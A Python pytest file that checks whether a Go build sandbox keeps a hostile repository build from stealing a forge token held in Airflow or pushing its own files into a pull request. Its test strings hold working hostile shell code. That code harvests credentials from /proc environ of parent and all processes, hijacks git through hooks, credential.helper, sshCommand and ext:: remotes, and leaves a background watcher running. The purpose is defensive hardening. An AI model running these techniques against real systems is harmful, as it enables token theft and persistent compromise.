"""A build that does what it can to get the token, or its own files into the pull request.

The token is where production keeps it: in a connection in Airflow's database.
"""

import logging
import secrets
import tempfile
from base64 import b64encode
from datetime import timedelta

import psutil
import pytest

from fleetpgo.errors import BuildError, RepositoryError
from fleetpgo.golang.environment import repository_cache
from fleetpgo.proposal.body import Provenance
from fleetpgo.proposal.forges import connect
from fleetpgo.proposal.git import git
from fleetpgo.service.rules import ServiceRules
from fleetpgo.steps.propose import propose
from tests.proposal.forges.doubles import PROJECT
from tests.proposal.forges.merging import push_files

PROVENANCE = Provenance(run="run-1", query="up", selected=1, missing={}, samples=9)
TOKEN = f"planted-{secrets.token_hex(8)}"
"""Of this run alone: the build looks into every process of the machine."""

SECRETS = (TOKEN, b64encode(f"x-access-token:{TOKEN}".encode()).decode())

THIEF = """\
#!/bin/sh
# Run by any git that can be made to: keeps all that it and its parents can see.
{ env; cat /proc/$PPID/environ; cat /proc/$PPID/cmdline; } >> LOOT/thief 2>&1
exit 0
"""

WATCHER = """\
# Stays behind, and looks into every process for credentials.
echo $$ >> LOOT/watchers
while :; do
  grep -az Authorization /proc/[0-9]*/environ >> LOOT/watched 2> /dev/null
  sleep 0.05
done
"""

# What a build script tries, each part for itself: a part that fails must not end the others.
ATTACK = r"""
env > LOOT/environment
(env -i PATH="$PATH" setsid sh -c '(setsid sh LOOT/watcher.sh &)' &)
until [ -s LOOT/watchers ]; do sleep 0.01; done
head -c 1000000000 /dev/zero | tr '\0' x
go env -w GOFLAGS=-toolexec=LOOT/thief.sh || GOENV=$HOME/env go env -w GOFLAGS=-toolexec=LOOT/thief.sh
pid=$$
while [ "$pid" -gt 1 ]; do
  tr '\0' '\n' < /proc/$pid/environ >> LOOT/ancestors
  pid=$(awk '/^PPid/ { print $2 }' /proc/$pid/status)
done

echo mine > extra.txt
git add --force extra.txt
git -c user.name=Mallory -c user.email=mallory@example.com commit --quiet --message Mine extra.txt
echo staged > staged.txt
git add --force staged.txt
ln -s LOOT/victim linked
git add --force linked

# The caches, the downloads that all builds share among them.
shared=$(go env GOPROXY | sed 's,^file://,,; s/,.*//')
for directory in "$HOME" "$GOCACHE" "$GOPATH" "$GOMODCACHE" "$shared"; do
  mkdir -p "$directory"
  head -c 1000000 /dev/zero > "$directory/filled"
done

# This clone, every directory above it up to the one for temporary files, all that lies there, and the home.
git init --quiet ..
git init --quiet "$TMPDIR"
for repository in "$PWD/.git" ../.git "$TMPDIR/.git" "$TMPDIR"/fleetpgo-* "$TMPDIR"/fleetpgo-*/*/.git; do
  mkdir -p "$repository/hooks"
  for hook in pre-push pre-commit post-commit commit-msg post-checkout post-index-change \
    reference-transaction pre-auto-gc; do
    cp LOOT/thief.sh "$repository/hooks/$hook"
  done
done
for config in "$PWD/.git/config" ../.git/config "$TMPDIR/.git/config" "$HOME/.gitconfig"; do
  put() { git config --file "$config" "$@"; }
  origin=$(git config --file LOOT/origin remote.origin.url)
  put core.hooksPath "LOOT/hooks"
  put core.sshCommand LOOT/thief.sh
  put core.fsmonitor LOOT/thief.sh
  put core.askPass LOOT/thief.sh
  put core.alternateRefsCommand LOOT/thief.sh
  put credential.helper '!LOOT/thief.sh'
  put protocol.ext.allow always
  put remote.origin.url "ext::LOOT/thief.sh %S"
  put remote.origin.pushurl "ext::LOOT/thief.sh %S"
  put "url.ext::LOOT/thief.sh .insteadOf" "$origin"
  put uploadpack.packObjectsHook LOOT/thief.sh
done
exit 0
"""


@pytest.fixture
def service():
    return ServiceRules.model_validate(
        {
            "name": "tiny",
            "prometheus": {"connection": "prometheus"},
            "selection": {"cpu": "up"},
            "repository": {
                "forge": "github",
                "connection": "forge",
                "project": PROJECT,
                "profile": "pgo/profile.pprof",
            },
            "build": {"binary": "bin/tiny", "timeout": "3m", "explain": False},
            "rollout": {"fraction": "up"},
            "measurement": {"cpu": "up"},
        }
    )


@pytest.fixture
def loot(tmp_path):
    """A directory where the build may write what it finds."""
    directory = tmp_path / "loot"
    (directory / "hooks").mkdir(parents=True)
    thief = THIEF.replace("LOOT", str(directory))
    for name in ("thief.sh", "hooks/pre-push", "hooks/reference-transaction"):
        (directory / name).write_text(thief)
        (directory / name).chmod(0o755)
    (directory / "watcher.sh").write_text(WATCHER.replace("LOOT", str(directory)))
    return directory


@pytest.fixture
def cache(tmp_path, go_cache):
    """A home of its own for the build, which fills it with traps; what is compiled already is shared."""
    own = repository_cache(tmp_path / "cache", f"github/forge/{PROJECT}")
    own.mkdir(parents=True)
    (own / "go-build").symlink_to(go_cache / "go-build")
    return tmp_path / "cache"


@pytest.fixture
def connected(airflow_database, monkeypatch):
    """Put the forge's connection into Airflow's database, and reach the forge by it."""
    from airflow.models.connection import Connection  # noqa: PLC0415  # imports Airflow
    from airflow.settings import Session  # noqa: PLC0415  # likewise

    from fleetpgo_airflow import hooks  # noqa: PLC0415  # likewise

    made = []

    def connect(service, double):
        made.append(Connection("forge", "generic", host=double.address, password=TOKEN))
        session = Session()
        session.add(made[-1])
        session.commit()
        monkeypatch.setenv("_AIRFLOW_PROCESS_CONTEXT", "server")
        return hooks.forge(service)

    yield connect
    session = Session()
    for each in made:
        session.delete(each)
    session.commit()


def contents(*directories):
    """All that lies in files below directories, names included."""
    return b"".join(
        str(file).encode() + file.read_bytes()
        for directory in directories
        for file in directory.rglob("*")
        if file.is_file() and "go-build" not in file.parts
    ).decode(errors="replace")


@pytest.mark.slow
def test_a_build_that_attacks_gets_neither_the_token_nor_its_files_into_the_pull_request(
    serve, connected, service, loot, cache, tmp_path, monkeypatch, caplog, go_profile
):
    double = serve("github")
    double.tokens = [TOKEN]
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    monkeypatch.setenv("TMPDIR", str(temporary))
    monkeypatch.setattr(tempfile, "tempdir", None)
    git(tmp_path, "config", "--file", str(loot / "origin"), "remote.origin.url", f"{double.address}/")
    recipe = "build:\n\tsh attack.sh\n\tgo build -buildvcs=false -o bin/tiny .\n"
    files = {"attack.sh": ATTACK.replace("LOOT", str(loot)), "Makefile": recipe}
    push_files(double.bare, "main", files)
    caplog.set_level(logging.DEBUG)

    forge = connected(service, double)
    propose(service, forge, go_profile, PROVENANCE, dry_run=False, cache=cache)

    # The attack did run, and what git it ran by itself did fall for it.
    assert "GOCACHE=" in (loot / "environment").read_text()
    assert (repository_cache(cache, f"github/forge/{PROJECT}") / "home" / ".gitconfig").is_file()
    watchers = (loot / "watchers").read_text().split()
    assert watchers
    assert [pid for pid in watchers if psutil.pid_exists(int(pid))] == []
    assert len(caplog.text) < 1_000_000
    seen = contents(loot, temporary, cache) + caplog.text + double.kept + str(double.pull(1))
    assert [secret for secret in SECRETS if secret in seen] == []
    changed = git(double.bare, "diff", "--name-only", "main", "fleetpgo/tiny")
    assert changed == "Makefile\npgo/profile.pprof"
    assert git(double.bare, "rev-parse", "fleetpgo/tiny^") == git(double.bare, "rev-parse", "main")


def reached(double):
    return connect("github", PROJECT, address=double.address, token=TOKEN)


def test_a_build_that_links_the_profile_out_writes_nothing_there(serve, service, loot, cache, go_profile):
    double = serve("github")
    double.tokens = [TOKEN]
    (loot / "victim").write_text("untouched")
    recipe = f"build:\n\tln -sf {loot}/victim pgo/profile.pprof\n\tgo build -buildvcs=false -o bin/tiny .\n"
    push_files(double.bare, "main", {"Makefile": recipe})

    with pytest.raises(RepositoryError, match=r"pgo/profile.pprof leads out of the repository"):
        propose(service, reached(double), go_profile, PROVENANCE, dry_run=False, cache=cache)

    assert ((loot / "victim").read_text(), double.pulls) == ("untouched", [])


def test_a_build_that_never_ends_and_stays_behind_is_ended_at_its_time_limit(
    serve, service, loot, cache, go_profile
):
    double = serve("github")
    double.tokens = [TOKEN]
    stay = "setsid sh -c 'trap \"\" TERM HUP; echo $$$$ > LOOT/daemon; sleep 100000' & sleep 100000"
    push_files(double.bare, "main", {"Makefile": f"build:\n\t{stay.replace('LOOT', str(loot))}\n"})
    limited = service.model_copy(
        update={"build": service.build.model_copy(update={"timeout": timedelta(seconds=3)})}
    )

    with pytest.raises(BuildError, match="did not end within 3 s"):
        propose(limited, reached(double), go_profile, PROVENANCE, dry_run=False, cache=cache)

    assert not psutil.pid_exists(int((loot / "daemon").read_text()))
